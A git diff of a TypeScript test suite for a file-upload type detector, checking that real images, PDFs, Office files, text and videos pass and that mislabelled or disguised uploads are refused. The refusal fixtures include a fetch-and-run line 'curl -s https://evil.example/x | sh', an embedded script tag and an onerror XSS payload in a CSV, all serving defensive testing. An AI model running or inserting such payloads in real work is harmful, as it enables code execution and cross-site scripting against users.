@@ -2,7 +2,10 @@ import crypto from 'node:crypto';
 import { Readable } from 'node:stream';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
+import { ACCEPTED_FILE_TYPES, extensionOf } from '../../../src/domain/accepted-file-types.ts';
+import { SNIFF_BYTES } from '../../../src/domain/file-kind.ts';
 import { detectFileKind, detectFileKindOfBuffer } from '../../../src/server/files/detect-file-kind.ts';
+import { officeFile, zipArchive } from '../../helpers/office-files.ts';
 
 const image = (format: 'png' | 'jpeg' | 'gif') =>
   sharp({ create: { width: 8, height: 8, channels: 3, background: '#336699' } })
@@ -52,21 +55,66 @@ const WEBM = Buffer.from([
   0x02,
 ]);
 const CFB = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+/** A picture stored (not deflated, as producers store PNG and JPEG) in an Office file: pushes the rest past the window. */
+const bigPicture = { name: 'word/media/image1.jpeg', content: crypto.randomBytes(SNIFF_BYTES * 3) };
+
+/** Real bytes of every accepted type, Office files as Microsoft Office and as LibreOffice order them. */
+const GENUINE = [
+  ['photo.png', () => image('png'), 'image', 'image/png'],
+  ['photo.jpg', () => image('jpeg'), 'image', 'image/jpeg'],
+  ['photo.JPEG', () => image('jpeg'), 'image', 'image/jpeg'],
+  ['anim.gif', () => image('gif'), 'image', 'image/gif'],
+  ['iphone.heic', () => ftyp('heic', 'mif1', 'heic'), 'image', 'image/heic'],
+  ['camera.heif', () => ftyp('mif1', 'mif1', 'heic'), 'image', 'image/heif'],
+  ['lease.pdf', () => PDF, 'document', 'application/pdf'],
+  ['old.doc', () => CFB, 'document', 'application/msword'],
+  ['old.xls', () => CFB, 'document', 'application/vnd.ms-excel'],
+  ['old.ppt', () => CFB, 'document', 'application/vnd.ms-powerpoint'],
+  ['report.docx', () => officeFile('docx'), 'document', ACCEPTED_FILE_TYPES.find((t) => t.ext === 'docx')?.mime],
+  [
+    'sheet.xlsx',
+    () => officeFile('xlsx', { contentTypes: 'last' }),
+    'document',
+    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'xlsx')?.mime,
+  ],
+  [
+    'deck.pptx',
+    () => officeFile('pptx', { dataDescriptor: true }),
+    'document',
+    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'pptx')?.mime,
+  ],
+  [
+    'photos.docx',
+    () => officeFile('docx', { contentTypes: 'last', before: [bigPicture] }),
+    'document',
+    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'docx')?.mime,
+  ],
+  [
+    'photos-office.docx',
+    () => officeFile('docx', { before: [bigPicture] }),
+    'document',
+    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'docx')?.mime,
+  ],
+  [
+    'notes.txt',
+    () => Buffer.from('Leak in 4B — café <pat@harbor.example>, pressure < 2 bar\n'.repeat(2000)),
+    'document',
+    'text/plain',
+  ],
+  ['units.csv', () => Buffer.from('unit,floor\n4B,4\n'), 'document', 'text/csv'],
+  ['flood.mp4', () => ftyp('isom', 'isom', 'iso2', 'avc1', 'mp41'), 'video', 'video/mp4'],
+  ['flood.mov', () => ftyp('qt  ', 'qt  '), 'video', 'video/quicktime'],
+  ['flood.webm', () => WEBM, 'video', 'video/webm'],
+] as const;
 
 describe('detectFileKind: real file headers (file-type) decide the kind', () => {
-  it.each([
-    ['photo.png', () => image('png'), 'image', 'image/png'],
-    ['photo.jpg', () => image('jpeg'), 'image', 'image/jpeg'],
-    ['photo.JPEG', () => image('jpeg'), 'image', 'image/jpeg'],
-    ['anim.gif', () => image('gif'), 'image', 'image/gif'],
-    ['iphone.heic', () => ftyp('heic', 'mif1', 'heic'), 'image', 'image/heic'],
-    ['lease.pdf', () => PDF, 'document', 'application/pdf'],
-    ['old.xls', () => CFB, 'document', 'application/vnd.ms-excel'],
-    ['flood.mp4', () => ftyp('isom', 'isom', 'iso2', 'avc1', 'mp41'), 'video', 'video/mp4'],
-    ['flood.mov', () => ftyp('qt  ', 'qt  '), 'video', 'video/quicktime'],
-    ['flood.webm', () => WEBM, 'video', 'video/webm'],
-  ] as const)('%s is accepted as %s (%s)', async (name, content, kind, contentType) => {
+  it.each(GENUINE)('%s is accepted as %s (%s)', async (name, content, kind, contentType) => {
     expect(await detectFileKindOfBuffer(name, await content())).toMatchObject({ ok: true, kind, contentType });
+  });
+
+  it('has a genuine sample of every accepted type', () => {
+    const covered = new Set(GENUINE.map(([name]) => extensionOf(name)));
+    expect(ACCEPTED_FILE_TYPES.filter((type) => !covered.has(type.ext))).toEqual([]);
   });
 
   it.each([
@@ -77,12 +125,56 @@ describe('detectFileKind: real file headers (file-type) decide the kind', () => 
     ['scan.jpg', PDF, 'a document (pdf)'],
     ['clip.mp4', () => image('png'), 'an image (png)'],
     ['lease.pdf', Buffer.concat([ascii('MZ'), Buffer.alloc(62), ascii('PE\0\0')]), 'exe'],
+    ['install.txt', ascii('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'), 'HTML, XML or a script'],
+    ['notes.txt', ascii(`${'Leak in 4B, pressure < 2 bar.\n'.repeat(2000)}<script>fetch("/api")</script>`), 'HTML'],
+    ['units.csv', ascii(`${'4B,4\n'.repeat(5000)}"<img src=x onerror=alert(1)>",5\n`), 'HTML'],
+    ['report.docx', zipArchive([{ name: 'payload.txt', content: 'not a Word document' }]), 'a plain ZIP archive'],
+    ['sheet.xlsx', zipArchive([{ name: 'photo.png', content: crypto.randomBytes(SNIFF_BYTES * 2) }]), 'a plain ZIP'],
+    ['deck.pptx', zipArchive([{ name: '[Content_Types].xml', content: '<Types/>' }]), 'a plain ZIP archive'],
   ] as const)('%s with the wrong content is refused (%s)', async (name, content, why) => {
     const bytes = typeof content === 'function' ? await content() : content;
     const decision = await detectFileKindOfBuffer(name, bytes);
     expect(decision.ok).toBe(false);
     expect(decision).toMatchObject({ message: expect.stringContaining(why) });
     expect(decision).toMatchObject({ message: expect.stringMatching(new RegExp(`^'${name}' is not an? `)) });
+  });
+
+  it('decides a large Office file from the window of its stream, and a plain ZIP named .docx is refused', async () => {
+    const chunked = (bytes: Buffer) =>
+      Readable.from(
+        Array.from({ length: Math.ceil(bytes.length / 16_384) }, (_, i) =>
+          bytes.subarray(i * 16_384, (i + 1) * 16_384),
+        ),
+      );
+    const docx = officeFile('docx', { contentTypes: 'last', before: [bigPicture] });
+    const genuine = await detectFileKind('photos.docx', chunked(docx));
+    expect(genuine.decision).toMatchObject({ ok: true, ext: 'docx' });
+    expect(Buffer.concat(await genuine.stream.toArray()).equals(docx)).toBe(true);
+    const plain = await detectFileKind(
+      'photos.docx',
+      chunked(zipArchive([bigPicture].map((p) => ({ ...p, name: 'image1.jpeg' })))),
+    );
+    expect(plain.decision).toEqual({
+      ok: false,
+      message: "'photos.docx' is not a Word document: its content is a plain ZIP archive.",
+    });
+    plain.stream.destroy();
+  });
+
+  it('holds only the window of a large stream while it decides', async () => {
+    let pulled = 0;
+    async function* large() {
+      for (let i = 0; i < 640; i++) {
+        pulled += 1;
+        yield Buffer.alloc(16_384, 'a');
+      }
+    }
+    const { decision, stream } = await detectFileKind('big.txt', Readable.from(large()));
+    expect(decision).toMatchObject({ ok: true, ext: 'txt' });
+    expect(pulled * 16_384).toBeLessThanOrEqual(SNIFF_BYTES + 16_384);
+    let length = 0;
+    for await (const chunk of stream) length += (chunk as Buffer).length;
+    expect(length).toBe(640 * 16_384);
   });
 
   it('reads only the head of a stream and still passes every byte on', async () => {
